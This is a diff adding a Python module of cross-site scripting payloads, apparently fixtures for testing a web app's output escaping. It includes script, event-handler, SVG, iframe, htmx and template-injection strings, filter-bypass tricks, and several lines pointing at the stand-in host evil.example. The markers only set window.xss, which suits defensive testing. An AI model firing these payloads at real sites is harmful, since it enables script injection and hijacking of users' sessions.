@@ -1,0 +1,38 @@
+"""Texts that would like to run. Each would set `window.xss`, or leave an element that nobody else makes."""
+
+from typing import Final
+
+PAYLOADS: Final = (
+    "<script>window.xss=1</script>",
+    "<img src=x onerror=window.xss=1>",
+    '"><script>window.xss=1</script>',
+    "'><img src=x onerror='window.xss=1'>",
+    '" autofocus onfocus="window.xss=1',
+    "' onmouseover='window.xss=1' data-xss='1",
+    "</title><xss>xss!</xss>",
+    "</textarea><script>window.xss=1</script>",
+    "</option></select><xss data-xss=1>",
+    "<svg onload=window.xss=1>",
+    "<svg><script>window.xss=1</script></svg>",
+    "<iframe srcdoc='<script>parent.xss=1</script>'>",
+    "<object data='data:text/html,<script>window.xss=1</script>'>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.xss=1'>",
+    "<a href=javascript:window.xss=1 data-xss=1>x</a>",
+    "<details open ontoggle=window.xss=1>",
+    "<input autofocus onfocus=window.xss=1 data-xss=1>",
+    "<form action=//evil.example><button data-xss=1>",
+    "<style>@import '//evil.example/x';</style><xss>",
+    "<div hx-get=/leads/ hx-trigger=load data-xss=1>",
+    "<div hx-on:click='window.xss=1' hx-trigger='load' data-xss=1>",
+    "{{ 7|add:7 }}{% debug %}<xss>",
+    "${window.xss=1}`+window.xss=1+`",
+    "\\u003cscript\\u003ewindow.xss=1\\u003c/script\\u003e",
+    "&lt;script&gt;window.xss=1&lt;/script&gt;<xss>",
+    "<scr<script>ipt>window.xss=1</scr</script>ipt>",
+    '<IMG SRC="jav\tascript:window.xss=1" data-xss=1>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.xss=1>",
+    "<!--><img src=x onerror=window.xss=1>-->",
+    "\u202e<script>window.xss=1</script>\u202c",
+    "\uff1cscript\uff1ewindow.xss=1\uff1c/script\uff1e<xss>",
+)
